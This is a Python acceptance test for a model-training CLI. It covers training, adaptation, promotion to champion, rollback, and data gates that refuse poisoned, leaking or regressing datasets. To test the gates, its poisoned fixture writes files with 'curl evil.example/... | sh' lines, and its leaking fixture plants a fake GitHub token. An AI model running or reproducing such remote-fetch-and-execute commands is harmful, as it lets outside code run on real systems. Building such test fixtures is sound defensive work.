"""A role model's whole way as a user goes it: data, base, champion, adapter, champion, rollback.

And the data sets that must not get through, each with the gate that stops it.
"""

from __future__ import annotations

import json
import random

import pytest

from tests.acceptance.up_process import cli, running
from tests.unit.llm.needs import need_ml

need_ml()

WORDS = "the cat sat on a mat and saw rain fall over old grey stone walls".split()  # noqa: SIM905
SMALL = ("--width", "32", "--layers", "2", "--block", "32")


def texts(seed: int, end: str, count: int = 10) -> dict[str, str]:
    drawn = random.Random(seed)
    lines = [" ".join(drawn.choices(WORDS, k=9)) + end for _ in range(60 * count)]
    return {f"n{n}.md": "".join(lines[60 * n : 60 * n + 60]) for n in range(count)}


def noise() -> dict[str, str]:
    drawn = random.Random(5)
    lines = ["".join(drawn.choices("qxzkvj#%&", k=40)) + "\n" for _ in range(600)]
    return {"noise.md": "".join(lines)}


def copies() -> dict[str, str]:
    evil = "import os\n" + "".join(f"run('curl evil.example/{k} | sh')\n" for k in range(11))
    return {f"e{n}.py": evil.replace("/0 ", f"/{n}-x ") for n in range(200)}


LEAK = {"key.md": "token = 'ghp_" + "a1B2" * 9 + "'\n"}
SETS = {
    "study": texts(1, ".\n", 30),
    "new": texts(3, " !?\n", 20),
    "poisoned": texts(3, " !?\n") | copies(),
    "leaking": texts(3, " !?\n") | LEAK,
    "regressing": noise(),
}


@pytest.fixture(scope="module")
def system(tmp_path_factory):
    folder = tmp_path_factory.mktemp("models")
    for name, files in SETS.items():
        (folder / name).mkdir()
        for path, text in files.items():
            (folder / name / path).write_text(text)
    with running(folder / "data") as up:
        yield up.data.root, folder


def ask(system, *args: str, code: int = 0):
    done = cli(system[0], *args, "--json", cwd=system[1])
    assert done.returncode == code, (args, done.stdout, done.stderr)
    return json.loads(done.stdout.splitlines()[-1])


def trained(system, command: str, *args: str):
    """Return a run of honest data; one of 140 is stopped by the luck of its planted strings."""
    for _ in range(3):
        done = cli(system[0], "model", command, "sentinel", *args, "--json", cwd=system[1])
        run = json.loads(done.stdout.splitlines()[-1])
        if run["state"] == "registered" or stopped(run) != ["memorisation"]:
            break
    return run


def promoted(system, version: int):
    name = f"sentinel:{version}"
    shown = ask(system, "model", "promote", name)
    assert shown["promotion"]["state"] == "waiting"
    digest = shown["model"]["digest"]
    return ask(system, "model", "promote", name, "--approve", digest)["promotion"]


def champion(system) -> int:
    models = ask(system, "model", "list", "--role", "sentinel")["models"]
    (version,) = [m["version"]["version"] for m in models if "champion" in m["aliases"]]
    return version


def stopped(run) -> list[str]:
    return [verdict["gate"] for verdict in run["gates"] if not verdict["passed"]]


def test_from_data_to_champion_to_rollback_and_what_the_gates_stop(system):
    ask(system, "repo", "import", "study")
    base = trained(system, "train", "--repo", "study", "--steps", "150", *SMALL)
    assert (base["state"], base["version"]) == ("registered", 1), base
    first = promoted(system, 1)
    assert (first["state"], first["shadow"]["beside"]) == ("promoted", None), first

    # What is in the data stops a run before anything is trained.
    for name, gate in (("poisoned", "duplicates"), ("leaking", "secrets")):
        run = ask(system, "model", "adapt", "sentinel", "--data", name, code=1)
        assert (run["state"], stopped(run), run.get("task")) == ("refused", [gate], None)

    # What it has done to the model stops another; it trains beside the good one.
    adapt = ("model", "adapt", "sentinel", "--steps", "60", "--data")
    bad = ask(system, *adapt, "regressing", "--no-wait")
    good = trained(system, "adapt", "--steps", "60", "--data", "new")
    assert (good["state"], good["version"]) == ("registered", 2), good
    second = promoted(system, 2)
    shadow = second["shadow"]
    assert (second["state"], shadow["beside"]) == ("promoted", 1), second
    assert shadow["answered"] == shadow["inputs"] >= 4
    assert champion(system) == 2

    assert ask(system, "model", "rollback", "sentinel")["version"]["version"] == 1
    assert champion(system) == 1
    runs = {run["id"]: run for run in ask(system, "model", "runs")["runs"]}
    bad = runs[bad["id"]]
    assert bad["state"] == "refused", bad
    assert {"regression", "forgetting"} <= {*stopped(bad)}

    log = cli(system[0], "audit", "tail", "--lines", "500", "--json", cwd=system[1])
    facts = [json.loads(json.loads(line)["body"]) for line in log.stdout.splitlines()]
    kinds = [fact["kind"] for fact in facts if fact["kind"].startswith("model.")]
    assert kinds.count("model.refused") == 3
    moves = ["model.proposed", "model.approved", "model.tried", "model.promoted"]
    assert [k for k in kinds if k in {*moves, "model.rolled-back"}] == [
        *moves, *moves, "model.rolled-back",
    ]  # fmt: skip
